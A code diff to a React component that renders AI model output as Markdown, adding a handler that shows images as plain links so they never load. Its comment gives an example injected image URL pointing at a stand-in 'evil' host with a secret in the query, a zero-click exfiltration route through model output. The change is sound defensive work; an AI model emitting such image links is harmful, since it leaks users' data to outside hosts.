@@ -1,16 +1,31 @@
 "use client";
 /**
  * Model output, rendered as Markdown (react-markdown without raw HTML: model output is untrusted
- * text, any tag in it shows as text) or token by token with log-probabilities.
+ * text, any tag in it shows as text) or token by token with log-probabilities. Images are never
+ * loaded: an injected `![](https://evil/?q=secret)` would fetch that URL from the visitor's
+ * browser without a click, so an image shows as a link to its address instead.
  */
 import { memo } from "react";
-import ReactMarkdown from "react-markdown";
+import ReactMarkdown, { type Components } from "react-markdown";
 import type { TokenView } from "./run-state";
+
+const components: Components = {
+  img: ({ src, alt }) => {
+    const href = typeof src === "string" ? src : "";
+    return (
+      <a href={href || undefined} rel="noopener noreferrer nofollow" target="_blank" data-testid="md-image-link" className="underline">
+        [image{alt ? `: ${alt}` : ""}] {href}
+      </a>
+    );
+  },
+};
 
 const Markdown = memo(function Markdown({ text }: { text: string }) {
   return (
     <div className="prose prose-sm max-w-none break-words dark:prose-invert [&_code]:rounded [&_code]:bg-zinc-100 [&_code]:px-1 dark:[&_code]:bg-zinc-800 [&_pre]:overflow-x-auto [&_pre]:rounded [&_pre]:bg-zinc-100 [&_pre]:p-2 dark:[&_pre]:bg-zinc-800">
-      <ReactMarkdown skipHtml>{text}</ReactMarkdown>
+      <ReactMarkdown skipHtml components={components}>
+        {text}
+      </ReactMarkdown>
     </div>
   );
 });
